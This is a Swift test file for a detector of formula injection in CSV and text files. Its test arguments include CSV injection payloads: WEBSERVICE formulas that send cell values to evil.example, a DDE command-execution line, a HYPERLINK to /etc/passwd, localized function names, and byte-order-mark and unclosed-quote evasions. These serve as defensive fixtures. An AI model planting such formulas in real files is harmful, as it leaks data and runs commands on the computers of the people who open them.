import Foundation
import Testing

@testable import Inspection

/// Text that a spreadsheet treats as more than text (attack round 6).
struct TextRound6Tests {
    static let bom = "\u{FEFF}"

    /// Excel and LibreOffice take a UTF-8 byte-order mark as the encoding and drop it: the first cell after it is a
    /// cell like any other, in CSV and in text that is CSV under another name.
    @Test(arguments: [
        "=WEBSERVICE(\"https://evil.example/?\"&B1),secret\n",
        "=cmd|' /C calc'!A0,x\n",
        "=HYPERLINK(\"file:///etc/passwd\",\"open\")\n",
        " \"=WEBSERVICE(\"\"https://evil.example\"\")\",x\n",
        "sep=;\n=WEBSERVICE(\"https://evil.example\");x\n",
    ])
    func aFormulaAfterAByteOrderMarkIsFound(_ cells: String) {
        for marks in [Self.bom, Self.bom + Self.bom] {
            let text = Array((marks + cells).utf8)
            #expect(!TextActiveContent.formulaFindings(text, csv: true).isEmpty, "\(cells)")
            #expect(!TextActiveContent.findings(in: text, csv: true).isEmpty, "\(cells)")
            #expect(!TextActiveContent.findings(in: text).isEmpty, "as text: \(cells)")
        }
        // And without the mark, as before.
        #expect(!TextActiveContent.formulaFindings(Array(cells.utf8), csv: true).isEmpty, "\(cells)")
    }

    /// A spreadsheet reads a CSV formula in its interface's language: German WEBDIENST is WEBSERVICE, French
    /// LIEN_HYPERTEXTE is HYPERLINK. A CSV formula may call only functions known to be harmless.
    @Test(arguments: [
        "=WEBDIENST(\"https://evil.example/?\"&B1),x\n", "=SERVICEWEB(\"https://evil.example\"),x\n",
        "=LIEN_HYPERTEXTE(\"file:///etc/passwd\";\"x\");y\n", "=SERVIZIO.WEB(\"https://evil.example\")\n",
        "=A1 WEBDIENST(\"https://evil.example\"),x\n", "=SUM(A1)+BILD(\"https://evil.example/i.png\"),x\n",
        "x,-1+WEBDIENST(\"https://evil.example\")\n", "x,@WEBDIENST(\"https://evil.example\")\n",
    ])
    func aCSVFormulaCallingAnUnlistedFunctionIsFound(_ csv: String) {
        let findings = TextActiveContent.findings(in: Array(csv.utf8), csv: true)
        #expect(findings.contains { $0.contains("not a function known to be harmless") }, "\(csv) \(findings)")
    }

    /// Formulas of listed functions, and prose that merely looks like a call, stay clean.
    @Test func harmlessFormulasAndProseStayClean() {
        for csv in [
            "name,total\nAda,=SUM(B2:B9)\nBob,=ROUND(AVERAGE(B2:B9),2)\nCy,\"=IF(B2>0,\"\"yes\"\",\"\"no\"\")\"\n",
            "handle,note\n@bob (ops),- removed item(s)\n+1 (555) 123-4567,-3 (est.)\n",
            "link\n=HYPERLINK(\"https://example.com\",\"site\")\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv)")
        }
        // Prose in text that is not CSV: an arrow, a call after a word.
        #expect(TextActiveContent.findings(in: Array("fix typo e.g., => e.g. (Daijiro Yamada)\n".utf8)).isEmpty)
    }

    /// LibreOffice ends a quoted cell that no quote closes at its line (and then reads the line's other delimiters
    /// as cell ends): the cell after it is a cell.
    @Test(arguments: [
        "x,\"a\n=WEBSERVICE(\"https://evil.example/?\"&A1),y\n",
        "\"a',\"\"\\,=WEBSERVICE(\"https://evil.example/?\"&A1)\n",
        "\"aa\r=WEBSERVICE(\"https://evil.example/?\"&A1)\n",
        "name,note\n\"unclosed;=WEBSERVICE(\"https://evil.example\")\n",
    ])
    func aFormulaAfterAnUnclosedQuoteIsFound(_ csv: String) {
        #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
    }

    /// Ordinary exports that start with a byte-order mark stay clean.
    @Test func ordinaryFilesWithAByteOrderMarkStayClean() {
        for text in [
            Self.bom + "Name,Email,Joined\nAda,ada@example.com,2024-01-02\n",
            Self.bom + "sep=;\nName;Total\nAda;-12\n",
            Self.bom + "id\tamount\n1\t-3.5\n",
        ] {
            #expect(TextActiveContent.findings(in: Array(text.utf8), csv: true).isEmpty, "\(text)")
        }
    }
}
